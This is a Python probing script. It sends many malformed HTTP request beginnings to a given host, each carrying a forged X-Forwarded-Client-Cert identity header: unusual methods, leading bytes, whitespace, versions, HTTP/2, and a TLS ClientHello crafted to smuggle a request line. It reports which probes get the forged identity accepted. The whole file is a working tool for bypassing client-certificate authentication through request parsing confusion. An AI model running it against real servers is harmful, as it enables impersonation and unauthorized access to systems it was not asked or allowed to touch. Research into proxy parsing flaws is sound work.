"""Sends odd beginnings of requests with a forged identity; prints which were answered as HTTP.

beginnings.py HOST PORT [PAUSE_MS]: each on a connection of its own. With a pause, nothing is sent for so
long at first, and then the beginning in two pieces."""

import itertools
import json
import socket
import sys
import time

FORGED = "identity-that-was-forged"
FIELD = f"X-Forwarded-Client-Cert: {FORGED}"


def beginnings():
    """Name and bytes of each."""
    yield "plain", b"GET / HTTP/1.1\r\nHost: a\r\n"
    for method in ["get", "Get", "gET", "FOO", "foo", "M-SEARCH", "PRI", "G!T", "G.T", "", "\u00c9T", "A" * 40, "QUERY"]:
        yield f"method {method}", f"{method} / HTTP/1.1\r\nHost: a\r\n".encode("latin-1")
    for lead in ["\r\n", "\n", "\r", " ", "\t", "\r\n\r\n", "\n\n\n", "  ", "\0", "\x0b", "\xef\xbb\xbf", "\x1c", "\x16\x03\x01", "\x16\x03\x01\x00\x05", "\x80\x01", "*1\r\n", "x\r\n", "\xff\xfe"]:
        yield f"lead {lead!r}", lead.encode("latin-1") + b"GET / HTTP/1.1\r\nHost: a\r\n"
    for gap in ["  ", "\t", " \t", "\x0b", "\x0c", "\x1c", "\x85", "\xa0", "\r", "\0"]:
        yield f"gap {gap!r}", f"GET{gap}/{gap}HTTP/1.1\r\nHost: a\r\n".encode("latin-1")
        yield f"first gap {gap!r}", f"GET{gap}/ HTTP/1.1\r\nHost: a\r\n".encode("latin-1")
    for target in ["*", "http://a/", "HTTP://a/", "ftp://a/", "a", "a:80", "", "?x", "\\", "//", "/ x", "/\xe9", "/\x01", "#", "/%zz", "rtsp://a/"]:
        yield f"target {target}", f"GET {target} HTTP/1.1\r\nHost: a\r\n".encode("latin-1")
    for version in ["HTTP/1.0", "HTTP/0.9", "HTTP/1.2", "HTTP/2.0", "HTTP/1.10", "http/1.1", "HTTP/1", "HTTP/11", "HTTPS/1.1", "HTTP/1.1 ", "ICE/1.0", "RTSP/1.0", "SIP/2.0", "x", "HTTP/9.9", "HTTP/01.01", "SOURCE"]:
        yield f"version {version}", f"GET / {version}\r\nHost: a\r\n".encode()
        yield f"foo version {version}", f"FOO /x {version}\r\nHost: a\r\n".encode()
    yield "0.9", b"GET /\r\n"
    yield "0.9 foo", b"FOO /\r\n"
    yield "0.9 space", b"GET / \r\n"
    for end in ["\n", "\r", "\r\r\n", " \r\n", "\n\r", "\0\r\n"]:
        yield f"end {end!r}", f"GET / HTTP/1.1{end}Host: a{end}".encode()
    yield "long method", b"A" * 9000 + b" / HTTP/1.1\r\nHost: a\r\n"
    yield "long target", b"GET /" + b"a" * 7000 + b" HTTP/1.1\r\nHost: a\r\n"
    yield "long lead", b"\r\n" * 5000 + b"GET / HTTP/1.1\r\nHost: a\r\n"
    yield "binary method", bytes(range(1, 32)) + b" / x\r\nHost: a\r\n"
    yield "redis", b"*1\r\n$4\r\nPING\r\n /x y\r\nHost: a\r\n"
    # A ClientHello in whose fields a lenient server finds a request line.
    random = b" /x HTTP/1.1\r\nA: ".ljust(32, b"a")
    session = b"b" * 30 + b"\r\n"
    extension = FIELD.encode() + b"\r\nConnection: close\r\n\r\n"
    extensions = b"\xff\xee" + len(extension).to_bytes(2, "big") + extension
    hello = b"\x03\x03" + random + b"\x20" + session + b"\x00\x02\x13\x01\x01\x00" + len(extensions).to_bytes(2, "big") + extensions
    shake = b"\x01" + len(hello).to_bytes(3, "big") + hello
    yield "client hello", b"\x16\x03\x01" + len(shake).to_bytes(2, "big") + shake


def h2(pause):
    """HTTP/2 with prior knowledge."""
    from h2.connection import H2Connection

    connection = H2Connection()
    connection.initiate_connection()
    headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "a"), ("x-forwarded-client-cert", FORGED)]
    connection.send_headers(1, headers, end_stream=True)
    return connection.data_to_send()


def ask(host, port, pieces, pause):
    try:
        with socket.create_connection((host, port), timeout=10) as stream:
            stream.settimeout(2)
            if pause:
                time.sleep(pause)
            for piece in pieces:
                stream.sendall(piece)
                if pause:
                    time.sleep(pause)
            answer = b""
            while chunk := stream.recv(65536):
                answer += chunk
                if b"identity=" in answer:
                    break
            return answer
    except TimeoutError:
        return b"(silence)"
    except OSError as error:
        return f"({type(error).__name__})".encode()


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    pause = int(sys.argv[3]) / 1000 if len(sys.argv) > 3 else 0
    end = f"{FIELD}\r\nConnection: close\r\n\r\n".encode()
    results = {}
    for name, beginning in itertools.chain(beginnings(), [("http/2", None)]):
        request = h2(pause) if beginning is None else beginning + (b"" if name == "client hello" else end)
        pieces = [request[:2], request[2:]] if pause else [request]
        answer = ask(host, port, pieces, pause)
        results[name] = "forged" if FORGED.encode() in answer else answer[:40].decode("latin-1")
    print(json.dumps(results))


main()
